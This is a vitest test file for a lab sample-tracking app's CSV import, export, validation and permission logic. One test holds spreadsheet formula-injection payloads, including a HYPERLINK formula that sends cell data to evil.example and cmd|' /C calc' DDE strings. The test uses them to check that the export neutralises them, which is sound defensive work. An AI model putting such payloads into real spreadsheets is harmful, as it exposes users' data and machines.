import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { UserCaller } from "@/lib/auth/caller";
import type { Database } from "@/lib/platform/db";
import { ConflictError, ForbiddenError, NotFoundError, ValidationError } from "@/lib/shared/errors";
import { idAlphabet } from "@/lib/shared/human-ids";
import { createProposal } from "@/lib/proposals/create-proposal";
import { exportSamplesCsv } from "@/lib/samples/import/csv";
import { importSamples } from "@/lib/samples/import/import-samples";
import { previewSampleImport } from "@/lib/samples/import/preview";
import { demo, seedDemoData } from "@/lib/platform/seed";
import { currentCaller } from "@/lib/auth/session";
import { createTray } from "@/lib/trays/create-tray";
import { tokenCaller, userCaller } from "../support/callers";
import { rejectsWithoutWriting } from "../support/assertions";
import { createTestDatabase, databaseTier } from "../support/database";

vi.mock("@/lib/auth/session", () => ({ currentCaller: vi.fn(async () => ({ kind: "anonymous" })) }));
vi.mock("next/cache", () => ({ revalidatePath: vi.fn() }));
const exportRoute = await import("@/app/proposals/[proposalId]/samples.csv/route");
const templateRoute = await import("@/app/proposals/samples-template.csv/route");
const actions = await import("@/lib/samples/import/actions");

let database: Database;
let ada: UserCaller; // member of the demo proposal
let grace: UserCaller; // member of nothing
let staff: UserCaller; // reads every proposal, edits none it is not a member of

beforeAll(async () => {
  database = await createTestDatabase();
  await seedDemoData(database.prisma);
  ada = await userCaller("ada", "USER", { email: "ada.lovelace@example.org" });
  grace = await userCaller("grace", "USER", { email: "grace.hopper@example.org" });
  staff = await userCaller("sam", "STAFF");
});
afterAll(() => database.close());

const tsv = (...rows: string[][]) => rows.map((row) => row.join("\t")).join("\n");
const counts = () => Promise.all([database.prisma.sample.count(), database.prisma.auditLog.count()]);

/** Imports with the suggested mapping, as the page does after a preview without changes. */
const importAs = (caller: Parameters<typeof importSamples>[0], text: string, proposalId: string = demo.proposalId) =>
  importSamples(caller, proposalId, text, {});

async function newTray(name: string, rows: number, columns: number) {
  return (await createTray(ada, demo.proposalId, { name, rows, columns })).trayId;
}

describe(`sample import preview (${databaseTier()})`, () => {
  it("shows every row with its problems, by spreadsheet line, and writes nothing", async () => {
    const text = tsv(
      ["Sample name", "ID", "Tray", "Pos", "Status", "meta:stage"],
      ["Pupa day 7", "", "T-DEMO-A", "", "registered", "pupa"],
      ["", "", "T-DEMO-A", "", "", ""],
      ["Lost pupa", "", "T-NOPE", "", "", ""],
      ["Off the tray", "", "T-DEMO-A", "9", "", ""],
      [],
      ["Amber taken", "", "T-DEMO-B", "A1", "", ""],
      ["Twin 1", "PV-TWIN", "", "", "", ""],
      ["Twin 2", "PV-TWIN", "", "", "", ""],
      ["Old", "S-DEMO-01", "", "", "", ""],
      ["Strange", "", "", "", "lost", ""],
      ["Nowhere", "", "", "A2", "", ""],
    );
    const before = await counts();
    const preview = await previewSampleImport(ada, demo.proposalId, text);
    expect(await counts()).toEqual(before);

    expect(preview.headers).toEqual(["Sample name", "ID", "Tray", "Pos", "Status", "meta:stage"]);
    expect(preview.mapping).toEqual({
      "Sample name": "specimenName",
      ID: "specimenId",
      Tray: "trayId",
      Pos: "position",
      Status: "status",
      "meta:stage": "metadata.stage",
    });
    const byLine = Object.fromEntries(preview.rows.map((row) => [row.line, row]));
    expect(preview.rows.map((row) => row.line)).toEqual([2, 3, 4, 5, 7, 8, 9, 10, 11, 12]);
    expect(byLine[2]).toEqual({
      line: 2,
      values: { specimenName: "Pupa day 7", trayId: "T-DEMO-A", status: "REGISTERED", metadata: { stage: "pupa" } },
      placedAt: "7",
      errors: [],
    });
    expect(byLine[3].errors).toEqual(["Name is required"]);
    // A row with a problem still takes its place, so the others do not move when it is corrected.
    expect(byLine[3].placedAt).toBe("8");
    expect(byLine[4].errors).toEqual(["This proposal has no tray T-NOPE"]);
    expect(byLine[5].errors).toEqual(["Position 9 is not on this tray (1 to 8)"]);
    expect(byLine[7].errors).toEqual([
      "Position A1 of tray T-DEMO-B is already taken by S-DEMO-07 (Amber piece 1); choose a free position.",
    ]);
    expect(byLine[8].errors).toEqual([]);
    expect(byLine[9].errors).toEqual(["Specimen ID PV-TWIN is also on line 8"]);
    expect(byLine[10].errors).toEqual([
      "Specimen ID S-DEMO-01 is already taken; choose another, or leave it empty to generate one.",
    ]);
    expect(byLine[11].errors).toEqual([expect.stringMatching(/^Status: /)]);
    expect(byLine[12].errors).toEqual(["Position: Choose a tray for the position"]);
    expect(preview).toMatchObject({ errorCount: 8, validCount: 2 });
  });

  it("follows a chosen mapping, completes it for other headers, and refuses a field chosen twice", async () => {
    const text = tsv(["Name", "Colour", "Notes"], ["Foam 1", "blue", "soft"]);
    const preview = await previewSampleImport(ada, demo.proposalId, text, { Colour: "metadata.colour" });
    expect(preview.mapping).toEqual({ Name: "specimenName", Colour: "metadata.colour", Notes: "description" });
    expect(preview.metadataTargets).toEqual({
      Name: "metadata.Name",
      Colour: "metadata.Colour",
      Notes: "metadata.Notes",
    });
    expect(preview.rows[0].values).toEqual({
      specimenName: "Foam 1",
      description: "soft",
      metadata: { colour: "blue" },
    });

    // A suggestion gives way to a field the person chose for another column.
    const chosen = await previewSampleImport(ada, demo.proposalId, text, { Colour: "specimenName" });
    expect(chosen.mapping).toEqual({ Name: "ignore", Colour: "specimenName", Notes: "description" });

    const twice = await previewSampleImport(ada, demo.proposalId, text, {
      Name: "specimenName",
      Colour: "specimenName",
      Notes: "metadata.colour",
    }).catch((error: unknown) => error);
    expect(twice).toBeInstanceOf(ValidationError);
    expect((twice as ValidationError).fieldErrors).toEqual({ "mapping.Colour": ["Column Name already goes to Name"] });
    await expect(
      previewSampleImport(ada, demo.proposalId, text, { Colour: "password" as "ignore" }),
    ).rejects.toBeInstanceOf(ValidationError);
  });
});

describe(`sample import (${databaseTier()})`, () => {
  it("writes nothing when a single row is bad", async () => {
    const text = tsv(
      ["name", "tray"],
      ["Good 1", "T-DEMO-B"],
      ["Good 2", "T-DEMO-B"],
      ["", "T-DEMO-B"],
      ["Good 3", ""],
    );
    const error = await rejectsWithoutWriting(database, () => importAs(ada, text), ValidationError);
    expect(error.message).toBe("1 of 4 rows have errors; nothing was imported. Correct them and import again.");
    expect(error.fieldErrors).toEqual({ "rows.4": ["Name is required"] });
  });

  it("refuses an empty table", async () => {
    await rejectsWithoutWriting(database, () => importAs(ada, "name\n"), ValidationError);
  });

  it("fills free positions in row order around the positions given, with generated IDs and an audit row each", async () => {
    const trayId = await newTray("Auto fill", 4, 6);
    await importAs(ada, tsv(["name", "tray", "position"], ["Holder", trayId, "A1"]));
    const text = tsv(
      ["name", "tray", "position", "label", "metadata.mass_mg"],
      ["First", trayId, "", "F", "12.5"],
      ["Chosen", trayId, "a3", "", ""],
      ["Second", trayId, "", "", ""],
      ["Third", trayId, "", "", ""],
    );
    const before = await counts();
    const result = await importAs(ada, text);
    expect(result.created).toBe(4);
    expect(await counts()).toEqual([before[0] + 4, before[1] + 4]);
    for (const id of result.specimenIds) expect(id).toMatch(new RegExp(`^S-[${idAlphabet}]{6}$`));

    const samples = await database.prisma.sample.findMany({
      where: { specimenId: { in: result.specimenIds } },
      select: { specimenId: true, specimenName: true, qrCodeLabel: true, position: true, metadata: true },
    });
    const byName = Object.fromEntries(samples.map((sample) => [sample.specimenName, sample]));
    expect([byName.First.position, byName.Chosen.position, byName.Second.position, byName.Third.position]).toEqual([
      2, 3, 4, 5,
    ]);
    expect(byName.First).toMatchObject({ qrCodeLabel: "F", metadata: { mass_mg: 12.5 } });
    expect(byName.Second.qrCodeLabel).toBe("Second");
    expect(result.specimenIds).toEqual(["First", "Chosen", "Second", "Third"].map((name) => byName[name].specimenId));

    const audit = await database.prisma.auditLog.findFirst({ where: { entityId: byName.First.specimenId } });
    expect(audit).toMatchObject({
      action: "CREATE",
      entity: "Sample",
      proposalId: demo.proposalId,
      actorId: ada.id,
      actorName: "ada",
      changes: {
        specimenName: "First",
        qrCodeLabel: "F",
        description: null,
        status: "REGISTERED",
        placement: `${trayId} A2`,
        metadata: { mass_mg: 12.5 },
      },
    });
  });

  it("refuses positions taken by stored samples or earlier rows, and IDs repeated in the file (422)", async () => {
    const text = tsv(
      ["name", "id", "tray", "position"],
      ["Taken", "", "T-DEMO-B", "A3"],
      ["One", "IMP-DUP", "T-DEMO-B", "D6"],
      ["Two", "IMP-DUP", "T-DEMO-B", "d6"],
    );
    const error = await rejectsWithoutWriting(database, () => importAs(ada, text), ValidationError);
    expect(error.fieldErrors).toEqual({
      "rows.2": ["Position A3 of tray T-DEMO-B is already taken by S-DEMO-08 (Amber piece 2); choose a free position."],
      "rows.4": ["Specimen ID IMP-DUP is also on line 3", "Position D6 of tray T-DEMO-B is also given on line 3"],
    });
  });

  it("is a conflict (409) when the only problems are samples already stored: a taken ID or position", async () => {
    const takenId = await rejectsWithoutWriting(
      database,
      () => importAs(ada, tsv(["name", "specimenId"], ["Again", "S-DEMO-01"], ["New", "IMP-NEW"])),
      ConflictError,
    );
    expect(takenId.status).toBe(409);
    expect(takenId.fieldErrors).toEqual({
      "rows.2": ["Specimen ID S-DEMO-01 is already taken; choose another, or leave it empty to generate one."],
    });
    await rejectsWithoutWriting(
      database,
      () => importAs(ada, tsv(["name", "tray", "well"], ["x", "T-DEMO-A", "3"])),
      ConflictError,
    );
  });

  it("refuses to overfill a tray", async () => {
    const trayId = await newTray("Small", 1, 2);
    const error = await rejectsWithoutWriting(
      database,
      () => importAs(ada, tsv(["name", "tray"], ["a", trayId], ["b", trayId], ["c", trayId])),
      ConflictError,
    );
    expect(error.fieldErrors).toEqual({
      "rows.4": [`Tray ${trayId} is full (2 positions); choose another tray, or free positions first.`],
    });
  });

  it("draws again when a generated ID is taken", async () => {
    const drawn = ["S-DEMO-01", "IMP-GEN-1", "IMP-GEN-1", "S-DEMO-02", "IMP-GEN-2"];
    const result = await importSamples(ada, demo.proposalId, tsv(["name"], ["g1"], ["g2"]), {}, () => drawn.shift()!);
    expect(result.specimenIds).toEqual(["IMP-GEN-1", "IMP-GEN-2"]);
  });

  it("gives parallel imports distinct IDs and positions, also when their generated IDs collide", async () => {
    const trayId = await newTray("Parallel imports", 8, 12);
    await createProposal(ada, { proposalId: "2026-PAR", title: "Parallel imports elsewhere" });
    // A tiny ID space forces collisions between the imports, so the redraw and retry paths run.
    const pool = Array.from({ length: 200 }, (_, i) => `IMP-P${i}`);
    const generate = () => pool[Math.floor(Math.random() * pool.length)];
    const rows = (batch: number, tray: string) =>
      tsv(["name", "tray"], ...Array.from({ length: 20 }, (_, i) => [`p${batch}-${i}`, tray]));
    const results = await Promise.all([
      importSamples(ada, demo.proposalId, rows(1, trayId), {}, generate),
      importSamples(ada, demo.proposalId, rows(2, trayId), {}, generate),
      importSamples(ada, "2026-PAR", rows(3, ""), {}, generate),
    ]);
    const ids = results.flatMap((result) => result.specimenIds);
    expect(new Set(ids).size).toBe(60);
    const placed = await database.prisma.sample.findMany({
      where: { specimenId: { in: ids }, tray: { trayId } },
      select: { position: true },
    });
    expect(placed.map((sample) => sample.position).sort((a, b) => a! - b!)).toEqual(
      Array.from({ length: 40 }, (_, i) => i + 1),
    );
  });
});

describe(`sample export and import round trip (${databaseTier()})`, () => {
  it("reproduces the same samples, metadata types included, in a proposal with the same tray IDs", async () => {
    const layouts = [
      { trayId: "RT-A", name: "Linear", rows: 1, columns: 8 },
      { trayId: "RT-B", name: "Grid", rows: 4, columns: 6 },
    ];
    const setUp = async (proposalId: string) => {
      await createProposal(ada, { proposalId, title: `Round trip ${proposalId}` });
      for (const layout of layouts) await createTray(ada, proposalId, layout);
    };
    await setUp("2026-RT1");
    const text = [
      "specimenName,specimenId,trayId,position,qrCodeLabel,description,status,metadata.mass_mg,metadata.cryo,metadata.batch,metadata.scan,metadata.note",
      'Bernstein Nr. 1,RT-1,RT-B,B3,Bernstein 1,"Einschluss, ""groß""\nzweite Zeile",MEASURED,127.5,true,007,"{""energy_keV"": 30, ""filters"": [""Al"", ""Cu""]}",Ü',
      'Käfer,,RT-A,,,,,-3,FALSE,"""42""",[1],"{not json"',
      "Loose,,,,,,,,,,,",
      'Formula,,RT-B,D6,,=SUM(A1),returned,,,true,,"; tab\tinside"',
    ].join("\n");
    await importAs(ada, text, "2026-RT1");

    const stored = async (proposalId: string) =>
      (
        await database.prisma.sample.findMany({
          where: { proposal: { proposalId } },
          orderBy: { specimenName: "asc" },
          select: {
            specimenName: true,
            specimenId: true,
            qrCodeLabel: true,
            description: true,
            status: true,
            position: true,
            metadata: true,
            tray: { select: { trayId: true } },
          },
        })
      ).map((sample) => ({
        ...sample,
        specimenId: sample.specimenId.startsWith("RT-") ? sample.specimenId : "generated",
      }));
    const original = await stored("2026-RT1");
    expect(original).toHaveLength(4);
    expect(original.find((sample) => sample.specimenId === "RT-1")?.metadata).toEqual({
      mass_mg: 127.5,
      cryo: true,
      batch: "007",
      scan: { energy_keV: 30, filters: ["Al", "Cu"] },
      note: "Ü",
    });
    expect(original.find((sample) => sample.specimenName === "Käfer")?.metadata).toEqual({
      mass_mg: -3,
      cryo: false,
      batch: "42",
      scan: [1],
      note: "{not json",
    });

    const csv = await exportSamplesCsv(ada, "2026-RT1");
    expect(csv.startsWith("\uFEFFspecimenId,specimenName,qrCodeLabel,trayId,position,description,status,")).toBe(true);
    expect(csv.split("\r\n")[0]).toBe(
      "\uFEFFspecimenId,specimenName,qrCodeLabel,trayId,position,description,status,metadata.batch,metadata.cryo,metadata.mass_mg,metadata.note,metadata.scan",
    );
    expect(csv).toContain('"Einschluss, ""groß""\nzweite Zeile"');
    expect(csv).toContain(',"""42""",');

    // Tray and specimen IDs are unique across proposals: the first proposal gives its samples up.
    const first = await database.prisma.proposal.findUniqueOrThrow({ where: { proposalId: "2026-RT1" } });
    await database.prisma.sample.deleteMany({ where: { proposalId: first.id } });
    await database.prisma.tray.deleteMany({ where: { proposalId: first.id } });
    await setUp("2026-RT2");

    const preview = await previewSampleImport(ada, "2026-RT2", csv);
    expect(preview.errorCount).toBe(0);
    expect(Object.values(preview.mapping)).not.toContain("ignore");
    const result = await importSamples(ada, "2026-RT2", csv, preview.mapping);
    expect(result.created).toBe(4);
    const copy = await stored("2026-RT2");
    expect(copy).toEqual(original);
  });

  it("guards cells a spreadsheet would run as formulas, keeps plain numbers, and reads its guards back", async () => {
    await createProposal(ada, { proposalId: "2026-RT3", title: "Formula injection" });
    await createTray(ada, "2026-RT3", { trayId: "RT-F", name: "Formulas", rows: 1, columns: 8 });
    const dangerous = {
      hyperlink: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
      command: "+cmd|' /C calc'!A0",
      at: "@SUM(1+1)*cmd|' /C calc'!A0",
      minus: "-2+3+cmd|' /C calc'!A0",
    };
    const text = [
      "specimenName,specimenId,trayId,description,metadata.formula,metadata.negative,metadata.exponent",
      ["Injected", "RT-F1", "RT-F", dangerous.hyperlink, dangerous.command, "-2", "-1.5e3"]
        .map((cell) => `"${cell.replaceAll('"', '""')}"`)
        .join(","),
      `"${dangerous.at.replaceAll('"', '""')}",RT-F2,RT-F,"${dangerous.minus}",,,`,
    ].join("\n");
    await importAs(ada, text, "2026-RT3");

    const csv = await exportSamplesCsv(ada, "2026-RT3");
    const cells = Papa.parse<string[]>(csv.replace("\uFEFF", ""), { skipEmptyLines: true }).data.flat();
    for (const value of Object.values(dangerous)) {
      expect(cells).not.toContain(value);
      expect(cells).toContain(`'${value}`);
    }
    // A cell that a spreadsheet would evaluate starts with one of these; none may, but plain numbers.
    const evaluated = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(evaluated.sort()).toEqual(["-1500", "-2"]);

    const before = await database.prisma.sample.findMany({
      where: { proposal: { proposalId: "2026-RT3" } },
      orderBy: { specimenId: "asc" },
      select: { specimenId: true, specimenName: true, description: true, metadata: true },
    });
    expect(before[0]).toMatchObject({
      description: dangerous.hyperlink,
      metadata: { formula: dangerous.command, negative: -2, exponent: -1500 },
    });
    const preview = await previewSampleImport(ada, "2026-RT3", csv);
    const reread = preview.rows.map((row) => row.values);
    expect(reread.map((sample) => sample.description)).toEqual([dangerous.hyperlink, dangerous.minus]);
    expect(reread.map((sample) => sample.specimenName)).toEqual(["Injected", dangerous.at]);
    expect(reread[0].metadata).toEqual({ formula: dangerous.command, negative: -2, exponent: -1500 });
  });

  it("serves the CSV as a download, to sessions and API tokens that may read samples", async () => {
    const reader = await tokenCaller(["samples:read"]);
    const get = (headers: Record<string, string> = {}) =>
      exportRoute.GET(new Request(`http://localhost/proposals/${demo.proposalId}/samples.csv`, { headers }), {
        params: Promise.resolve({ proposalId: demo.proposalId }),
      });
    const response = await get({ authorization: `Bearer ${reader.token}` });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="${demo.proposalId}-samples.csv"`);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes)).toContain("S-DEMO-01,Pupa day 1,Pupa day 1,T-DEMO-A,1,");

    expect((await get()).status).toBe(401);
    vi.mocked(currentCaller).mockResolvedValueOnce(grace);
    expect((await get()).status).toBe(404);
    vi.mocked(currentCaller).mockResolvedValueOnce(staff);
    expect((await get()).status).toBe(200);
  });

  it("offers a template to signed-in callers only", async () => {
    const get = () =>
      templateRoute.GET(new Request("http://localhost/proposals/samples-template.csv"), {
        params: Promise.resolve({}),
      });
    expect((await get()).status).toBe(401);
    vi.mocked(currentCaller).mockResolvedValueOnce(grace);
    const response = await get();
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(await response.text()).toContain("specimenName,specimenId,trayId,position");
  });
});

describe(`who may import and export samples (${databaseTier()})`, () => {
  const text = tsv(["name"], ["By someone"]);

  it("keeps other users out as if the proposal did not exist", async () => {
    await rejectsWithoutWriting(database, () => previewSampleImport(grace, demo.proposalId, text), NotFoundError);
    await rejectsWithoutWriting(database, () => importAs(grace, text), NotFoundError);
    await expect(exportSamplesCsv(grace, demo.proposalId)).rejects.toBeInstanceOf(NotFoundError);
  });

  it("tells someone who may read the proposal but not change it why not", async () => {
    await rejectsWithoutWriting(database, () => previewSampleImport(staff, demo.proposalId, text), ForbiddenError);
    await rejectsWithoutWriting(database, () => importAs(staff, text), ForbiddenError);
    expect(await exportSamplesCsv(staff, demo.proposalId)).toContain("S-DEMO-12");
  });

  it("lets API tokens import with samples:write and export with samples:read only", async () => {
    const writer = await tokenCaller(["samples:write"]);
    const result = await importAs(writer.caller, text);
    const audit = await database.prisma.auditLog.findFirst({ where: { entityId: result.specimenIds[0] } });
    expect(audit).toMatchObject({ actorId: null, actorName: "API token token samples:write" });
    await expect(exportSamplesCsv(writer.caller, demo.proposalId)).rejects.toBeInstanceOf(ForbiddenError);

    const reader = await tokenCaller(["samples:read"]);
    await rejectsWithoutWriting(
      database,
      () => previewSampleImport(reader.caller, demo.proposalId, text),
      ForbiddenError,
    );
    await rejectsWithoutWriting(database, () => importAs(reader.caller, text), ForbiddenError);
  });

  it("answers the page's server actions with the preview, or the import's count", async () => {
    vi.mocked(currentCaller).mockResolvedValue(ada);
    try {
      const preview = await actions.previewImportAction(demo.proposalId, text, undefined);
      expect(preview).toMatchObject({ status: "ok", message: "1 row, 0 with errors", data: { validCount: 1 } });
      const imported = await actions.importSamplesAction(demo.proposalId, text, {});
      expect(imported).toEqual({ status: "ok", message: "1 sample imported.", data: { created: 1 } });
      const invalid = await actions.importSamplesAction(demo.proposalId, tsv(["name", "notes"], ["", "no name"]), {});
      expect(invalid).toMatchObject({ status: "error", code: 422 });
    } finally {
      vi.mocked(currentCaller).mockResolvedValue({ kind: "anonymous" });
    }
    expect(await actions.importSamplesAction(demo.proposalId, text, {})).toMatchObject({ status: "error", code: 401 });
  });
});
